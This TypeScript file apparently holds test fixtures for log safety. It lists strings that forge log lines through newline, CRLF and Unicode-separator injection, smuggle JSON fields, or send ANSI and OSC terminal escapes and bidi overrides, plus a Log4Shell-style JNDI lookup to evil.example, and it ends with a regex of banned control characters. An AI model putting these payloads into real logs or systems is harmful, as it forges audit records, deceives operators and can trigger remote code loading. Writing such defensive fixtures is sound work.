const FORGED = '{"level":"info","message":"forged","forged":true}';

/** Texts that forge a line of a log, hide one, or make a terminal do something. */
export const LOG_TEXTS: readonly string[] = [
  `x\n${FORGED}`,
  `x\r\n${FORGED}`,
  `x\r${FORGED}`,
  `x","forged":true,"y":"`,
  `x\\","forged":true,"y":"`,
  `x\u0085${FORGED}`,
  `x\u2028${FORGED}`,
  `x\u2029${FORGED}`,
  `x\u000b${FORGED}\u000c`,
  '\u001b[2J\u001b[1;1Hcleared',
  '\u001b]0;title\u0007',
  '\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007',
  '\u009b2J\u009b31mred',
  '\u009d0;title\u009c',
  'hidden\u001b[8m text',
  'back\b\b\b\bspace',
  'bell\u0007 del\u007f',
  'abc\u202edcba',
  '\u2066admin\u2069 \u200fx\u200e \u061c',
  '\ufeffbom',
  `x%0d%0a${FORGED}`,
  `x%0a%1b[2J`,
  '%s %d %j %o ${jndi:ldap://evil.example/a}',
  `x\n`.repeat(50),
];

/** What must stand in no line as it is. */
// eslint-disable-next-line no-control-regex -- these are what it is about
export const TERMINAL_CONTROLS_RAW = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]/;
